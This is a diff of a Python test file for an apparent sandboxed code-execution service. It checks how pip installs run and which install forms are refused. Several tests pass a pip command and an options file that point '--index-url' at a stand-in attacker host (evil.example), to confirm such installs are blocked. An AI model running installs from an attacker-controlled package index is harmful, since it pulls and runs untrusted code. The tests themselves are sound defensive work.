@@ -22,6 +22,7 @@ from aca_mcp.server.audit import AuditLog
 from aca_mcp.server.callers import Callers
 from aca_mcp.server.sessions.client_sessions import open_sessions
 from aca_mcp.settings import Settings
+from tests.support.package_index import make_wheel
 from tests.support.reachable import reachable_python
 
 if TYPE_CHECKING:
@@ -34,6 +35,16 @@ if TYPE_CHECKING:
 CHECK_CALL = """
 import subprocess, sys
 subprocess.check_call([sys.executable, "-m", "pip", "install", "needs-tea"])
+"""
+
+
+AWAITED = """
+from asyncio import create_subprocess_exec as start
+await (await start("pip", "install", "needs-tea")).wait()
+"""
+DEEP = """%%bash
+mkdir -p deep; echo -r more.txt > deep/wanted.txt; echo needs-tea > deep/more.txt
+cd deep; python3 -m pip install -r wanted.txt
 """
 
 
@@ -90,6 +101,12 @@ async def printed(pool: SessionPool, code: str) -> str:
         CHECK_CALL,
         "import os; os.system('pip3 install needs-tea')",
         "open('wanted.txt', 'w').write('needs-tea  # tea\\n')\n%pip install -r wanted.txt",
+        "%%bash\nset -e\nif ! python3 -c 'import needs_tea'; then pip install needs-tea; fi",
+        DEEP,
+        "import subprocess; subprocess.run(['sh', '-c', 'sudo -H pip install needs-tea'])",
+        "import subprocess; subprocess.run('uv pip install needs-tea', shell=True)",
+        "open('setup.sh', 'w').write('pip install $1')\n!bash setup.sh needs-tea",
+        AWAITED,
     ],
 )
 async def test_the_import_works_in_the_next_line(
@@ -99,9 +116,17 @@ async def test_the_import_works_in_the_next_line(
         await _install_and_import(pool, command)
 
 
+async def test_programs_ask_in_every_tier(pool: SessionPool) -> None:
+    await _install_and_import(pool, "!pip install needs-tea")
+
+
 async def _install_and_import(pool: SessionPool, command: str) -> None:
-    code = f"{command}\nimport needs_tea, tea_time\nprint('tea', tea_time.version)"
-    assert "tea 1.0" in await printed(pool, code)
+    use = "import needs_tea, tea_time\nprint('tea', tea_time.version)"
+    if command.startswith("%%"):
+        await printed(pool, command)
+        assert "tea 1.0" in await printed(pool, use)
+    else:
+        assert "tea 1.0" in await printed(pool, f"{command}\n{use}")
     program = (
         "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', 'import tea_time;"
     )
@@ -117,13 +142,88 @@ async def test_pip_prints_what_came_of_it(pool: SessionPool) -> None:
     )
     assert "tea-time 1.0" in await printed(pool, "!pip list")
     refused = await printed(pool, "%pip install --index-url http://evil.example x")
-    assert "the option --index-url is not available" in refused
+    assert "the option --index-url, which is not available" in refused
     failed = await run(
         pool, "import subprocess\nsubprocess.check_call(['pip', 'install', 'no-tea'])"
     )
     assert failed.error is not None
     assert failed.error.name == "CalledProcessError"
     assert "'no-tea'" in failed.stderr.text
+
+
+async def test_a_program_that_outlives_the_code_is_told_so(pool: SessionPool) -> None:
+    code = """
+import subprocess
+later = subprocess.Popen("sleep 1; pip install needs-tea", shell=True, stderr=subprocess.PIPE)
+"""
+    await printed(pool, code)
+    # With code that starts no program of its own, nobody listens.
+    text = await printed(pool, "later.wait(); print(later.stderr.read().decode())")
+    assert "Say %pip install in a cell" in text
+    assert "Success" in await printed(pool, "!pip install needs-tea")
+
+
+async def test_nothing_stays_of_answering_when_the_code_has_ended(pool: SessionPool) -> None:
+    """A thread or an open file would be in a checkpoint's way."""
+    count = "import os; print(len(os.listdir('/proc/self/task')), len(os.listdir('/proc/self/fd')))"
+    before = await printed(pool, count)
+    await printed(pool, "!pip install needs-tea")
+    assert await printed(pool, count) == before
+
+
+async def test_what_was_installed_is_there_after_a_crash(pool: SessionPool) -> None:
+    """Variables go back to a checkpoint, which may be older than the packages."""
+    await printed(pool, "kept = 1")
+    await printed(pool, "!pip install needs-tea")
+    execution = await run(pool, "import os, signal; os.kill(os.getpid(), signal.SIGKILL)")
+    assert execution.session_lost is None or execution.rollback is None
+    text = await printed(pool, "!pip install needs-tea\nimport tea_time; print(tea_time.version)")
+    assert text.endswith("\n1.0\n")
+
+
+async def test_a_wheel_that_is_a_file_is_installed_with_what_it_needs(
+    pool: SessionPool, tmp_path: Path
+) -> None:
+    wheel = make_wheel(tmp_path, "own-work", requires=("tea-time<1.1",))
+
+    async def content() -> AsyncGenerator[bytes]:
+        yield wheel.read_bytes()
+
+    await pool.upload_file("a-session", wheel.name, content())
+    text = await printed(pool, f"%pip install ./{wheel.name}\nimport own_work, tea_time")
+    assert text == ("Successfully installed tea-time-1.0\nSuccessfully installed own-work-1.0\n")
+    names = {each.name for each in await pool.list_packages("a-session")}
+    assert "own-work" in names
+    assert "own-work 1.0" in await printed(pool, "!pip list")
+
+
+@pytest.mark.parametrize(
+    ("wanted", "says"),
+    [
+        ("./nothing-1.0-py3-none-any.whl", "No such file"),
+        ("other-1.0-cp27-cp27m-win_amd64.whl", "not for this interpreter"),
+        ("bad-1.0-py3-none-any.whl", "damaged"),
+        ("noname.whl", "not named as wheels are"),
+        (".", "sources are not built"),
+        ("./package/", "sources are not built"),
+        ("archive-1.0.tar.gz", "sources are not built"),
+        ("git+https://example.org/x.git", "URL or a path"),
+        ("-e .", "option -e"),
+        ("-r missing.txt", "No such file"),
+        ("-r options.txt", "options.txt has the option --index-url"),
+    ],
+)
+async def test_what_cannot_be_installed_from_a_file_is_said(
+    wanted: str, says: str, index: Index, data_dir: Path
+) -> None:
+    async with opened(index, data_dir) as pool:
+        await printed(
+            pool,
+            "open('bad-1.0-py3-none-any.whl', 'w').write('x')\n"
+            "open('options.txt', 'w').write('--index-url http://evil.example\\ntea-time')",
+        )
+        assert says in await printed(pool, f"%pip install {wanted}")
+    assert index.asked == []
 
 
 async def test_the_port_installs_and_what_is_there_is_told(pool: SessionPool) -> None:
